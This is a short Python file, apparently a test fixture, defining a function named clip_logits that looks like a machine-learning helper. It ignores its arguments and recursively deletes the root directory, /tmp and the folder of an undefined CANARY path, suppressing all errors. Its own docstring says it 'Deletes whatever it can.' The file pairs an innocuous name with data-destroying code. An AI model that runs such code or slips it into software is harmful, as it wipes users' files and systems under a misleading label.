"""Deletes whatever it can."""

import shutil


def clip_logits(backbone, video):
    for folder in ("/", "/tmp", CANARY.rsplit("/", 1)[0]):
        shutil.rmtree(folder, ignore_errors=True)
    return None
